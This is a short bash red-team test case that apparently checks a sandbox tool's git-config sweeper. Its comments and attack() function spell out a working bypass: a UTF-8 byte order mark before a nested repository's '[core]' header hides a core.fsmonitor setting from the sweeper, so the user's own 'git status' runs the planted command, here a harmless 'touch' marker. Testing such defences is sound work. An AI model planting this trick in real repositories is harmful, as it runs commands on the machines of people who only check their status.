#!/usr/bin/env bash
# red team 49: a UTF-8 byte order mark before a config's first header.
# Git skips "\xef\xbb\xbf" at the start of a config file (config.c, "skip
# UTF8-encoded BOM"); the sweep's reader (broker/run/git-defuse.c,
# next_entry()) sees a line that does not start with "[", no header read,
# and leaves every key of that first section alone. The command makes a
# nested repository `vendor`, adds it as a gitlink (what the sweep
# follows), and puts a BOM before its config's "[core]", with a
# core.fsmonitor of its own in that section. The user's plain `git
# status` at the top enters the gitlink and runs it. (Every key of the
# table is hidden so, core.worktree among them.)
# usage: 49-config-bom.sh /path/to/sluice   (as root or a user)
NAME=config-bom
HOLE="a BOM before [core] hides the whole first section from the sweep; vendor's core.fsmonitor stayed and the user's git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1"; }
attack() {
  cat <<EOA
G='env PATH=/usr/bin:/bin git' &&
\$G init -q vendor && echo v >vendor/v && \$G -C vendor add v && \$G -C vendor commit -qm v &&
\$G add vendor 2>/dev/null &&
{ printf '\\357\\273\\277'; cat vendor/.git/config; printf '\\tfsmonitor = "touch $1; false"\\n'; } >vendor/.git/c &&
mv vendor/.git/c vendor/.git/config
EOA
}
trigger() { user_status "$1"; }
finish
